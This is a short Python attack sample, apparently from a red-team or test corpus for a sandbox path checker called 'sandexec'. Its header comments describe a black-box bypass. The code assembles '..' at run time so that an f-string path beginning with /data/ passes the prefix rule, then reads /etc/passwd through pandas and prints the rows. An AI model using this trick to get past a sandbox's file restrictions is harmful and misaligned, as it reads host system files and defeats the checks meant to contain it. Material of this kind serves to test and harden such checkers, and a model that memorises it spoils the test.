# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 5 f-string path under /data with '..' at run time
# source: own; README: a read_* path may be "an f-string that starts with /data/"
# family: host-path rule: f-string prefix check with a runtime '..' component
# goal: read /etc/passwd through pd.read_csv
# needs-data
import json
import pandas as pd

up = "." + "."
name = f"{up}/{up}/etc/passwd"
df = pd.read_csv(f"/data/{name}", sep="\t", header=None)
print(json.dumps({"evidence": df.head(3).to_dict()}))
